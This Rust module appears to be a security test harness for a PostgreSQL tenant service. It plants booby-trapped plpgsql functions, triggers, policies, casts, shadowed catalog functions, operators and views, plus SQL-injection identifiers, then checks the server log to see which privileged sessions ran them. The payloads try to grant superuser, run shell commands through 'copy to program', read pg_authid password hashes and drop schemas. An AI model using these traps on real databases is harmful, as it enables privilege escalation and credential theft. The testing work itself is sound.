//! Code that a tenant leaves lying about, hoping that somebody with more rights steps on it. Each piece says in the
//! server's log who ran it (that survives a rollback), and tries to become superuser.

use tokio_postgres::Client;

use crate::world::World;

/// In the server's log, before who ran it.
const MARK: &str = "PAYLOAD-RAN";

/// `attempt(how)` and one wrapper of it for every place that takes a function.
pub fn functions(login: &str) -> String {
    format!(
        "create table public.stolen (t text);
         create function public.attempt(how text) returns int language plpgsql as $f$
         begin
             raise log '{MARK} how=% current=% session=% pid=%', how, current_user, session_user, pg_catalog.pg_backend_pid();
             begin execute 'alter role \"{login}\" superuser'; exception when others then null; end;
             begin execute 'set session authorization default'; exception when others then null; end;
             begin execute 'reset role'; exception when others then null; end;
             begin execute 'create role \"{login}_raised\" superuser login'; exception when others then null; end;
             begin execute 'copy (select 1) to program ''touch /tmp/{login}.pwned'''; exception when others then null; end;
             begin execute 'insert into public.stolen select rolpassword from pg_catalog.pg_authid'; exception when others then null; end;
             begin execute 'insert into public.stolen select encode(sealed, ''hex'') from freehold.note'; exception when others then null; end;
             return 1;
         end $f$;
         create function public.on_trigger() returns trigger language plpgsql as $f$ begin perform public.attempt(tg_name); return new; end $f$;
         create function public.on_check(int) returns boolean language plpgsql immutable as $f$ begin perform public.attempt('check'); return true; end $f$;
         create function public.on_index(int) returns int language plpgsql immutable as $f$ begin perform public.attempt('index'); return $1; end $f$;
         create function public.on_default() returns int language plpgsql as $f$ begin perform public.attempt('default'); return 1; end $f$;"
    )
}

/// Tables that run code when they are written, read, analysed, copied, cast or re-owned.
pub const OBJECTS: &str = "
    create table public.trap (a int default public.on_default() check (public.on_check(a)), b int generated always as (public.on_check(1)::int) stored);
    insert into public.trap (a) values (1), (2);
    create index on public.trap (public.on_index(a));
    create index on public.trap (a) where public.on_check(a);
    create statistics public.stats on (public.on_index(a)), a from public.trap;
    create trigger before_row before insert or update or delete on public.trap for each row execute function public.on_trigger();
    create trigger always after insert or update or delete on public.trap for each statement execute function public.on_trigger();
    alter table public.trap enable always trigger always;
    create constraint trigger deferred after insert on public.trap deferrable initially deferred for each row execute function public.on_trigger();
    create rule also as on update to public.trap do also select public.attempt('rule');
    alter table public.trap enable row level security;
    alter table public.trap force row level security;
    create policy p on public.trap using (public.on_check(a)) with check (public.on_check(a));
    create view public.pitfall as select public.attempt('view'), a from public.trap;
    create function public.cast_trap(public.trap) returns text language plpgsql as $f$ begin perform public.attempt('cast'); return 'x'; end $f$;
    create cast (public.trap as text) with function public.cast_trap(public.trap) as implicit;
    create domain public.dom as int check (public.on_check(value));
    create table public.typed (d public.dom, t public.trap);
    insert into public.typed values (1, row(1, 1));
    create materialized view public.mat as select public.on_index(a) from public.trap;
    create schema freehold_x; create table freehold_x.note (like public.trap including all);
    create schema \"Freehold\"; create schema \"a\"\"b'; drop schema freehold cascade; --\";
    create table \"a\"\"b'; drop schema freehold cascade; --\".\"; alter role postgres nologin; --\" (\"$$;select public.attempt('name')$$\" int);
    comment on table public.trap is $c$'; select public.attempt('comment'); --$c$;
    create publication \"p'; select 1; --\" for table public.typed;
";

/// Everything that a careless admin session calls by its bare name, in `public`; the search_path puts it first.
pub fn shadows() -> String {
    let mut sql = String::new();
    let functions = [
        ("current_database()", "name", "'x'::name"),
        ("pg_backend_pid()", "int", "1"),
        ("version()", "text", "'x'"),
        ("now()", "timestamptz", "'epoch'::timestamptz"),
        ("pg_terminate_backend(int)", "boolean", "true"),
        ("pg_has_role(oid, text)", "boolean", "true"),
        ("has_parameter_privilege(text, text)", "boolean", "true"),
        ("starts_with(text, text)", "boolean", "true"),
        ("lower(text)", "text", "'x'"),
        ("md5(text)", "text", "'x'"),
        ("format(text, text)", "text", "'x'"),
        ("quote_ident(text)", "text", "'x'"),
        ("quote_literal(text)", "text", "'x'"),
        ("set_config(text, text, boolean)", "text", "'x'"),
        ("current_setting(text)", "text", "'x'"),
        ("acldefault(\"char\", oid)", "pg_catalog.aclitem[]", "null::pg_catalog.aclitem[]"),
        ("array_to_string(text[], text)", "text", "'x'"),
    ];
    for (signature, answer, value) in functions {
        sql.push_str(&format!(
            "create function public.{signature} returns {answer} language plpgsql as $f$ begin perform public.attempt($h${signature}$h$); return {value}; end $f$;\n"
        ));
    }
    let operators = [
        ("=", "name", "text"),
        ("=", "name", "name"),
        ("<>", "name", "name"),
        ("=", "text", "text"),
        ("=", "oid", "oid"),
        ("~~", "name", "text"),
        ("||", "text", "text"),
        ("<", "int", "int"),
    ];
    for (n, (operator, left, right)) in operators.into_iter().enumerate() {
        let answer = if operator == "||" { "text" } else { "boolean" };
        let value = if operator == "||" { "'x'" } else { "true" };
        sql.push_str(&format!(
            "create function public.op{n}({left}, {right}) returns {answer} language plpgsql as $f$ begin perform public.attempt('operator {operator}'); return {value}; end $f$;
             create operator public.{operator} (leftarg = {left}, rightarg = {right}, function = public.op{n});\n"
        ));
    }
    for catalog in [
        "pg_roles",
        "pg_authid",
        "pg_database",
        "pg_class",
        "pg_namespace",
        "pg_shdepend",
        "pg_stat_activity",
        "pg_settings",
        "note",
    ] {
        sql.push_str(&format!("create view public.{catalog} as select pg_catalog.oid, rolname, rolname as datname, true as rolsuper, public.attempt('{catalog}') from pg_catalog.pg_roles;\n"));
    }
    for name in ["text", "name", "oid", "bool", "regclass", "bytea", "int4"] {
        sql.push_str(&format!("create domain public.{name} as pg_catalog.{name} check (public.on_check(1));\n"));
    }
    // The view's first column has the catalog's own name.
    sql.replace("select pg_catalog.oid, ", "select pg_roles.oid, ")
}

/// Each statement by itself: what is refused is refused, the rest is in place. Answers what was refused.
pub async fn plant(session: &Client, sql: &str) -> Vec<String> {
    let mut refused = Vec::new();
    for statement in split(sql) {
        // Its own traps run as itself while it plants them.
        if let Err(error) = session.batch_execute(&statement).await {
            refused.push(format!("{}: {error:?}", statement.trim()));
        }
    }
    refused
}

/// At semicolons that end a line, outside of dollar quotes.
fn split(sql: &str) -> Vec<String> {
    let (mut statements, mut current) = (Vec::new(), String::new());
    for line in sql.lines() {
        current.push_str(line);
        current.push('\n');
        if line.trim_end().ends_with(';') && current.matches("$f$").count() % 2 == 0 {
            statements.push(std::mem::take(&mut current));
        }
    }
    statements
}

/// Who ran payloads, by the server's log: (how, current_user, session_user).
pub fn ran(world: &World) -> Vec<(String, String, String)> {
    let log = world.cluster.as_ref().unwrap().log();
    let pattern = regex::Regex::new(&format!("{MARK} how=(.*) current=(\\S+) session=(\\S+) pid=")).unwrap();
    pattern.captures_iter(&log).map(|found| (found[1].into(), found[2].into(), found[3].into())).collect()
}
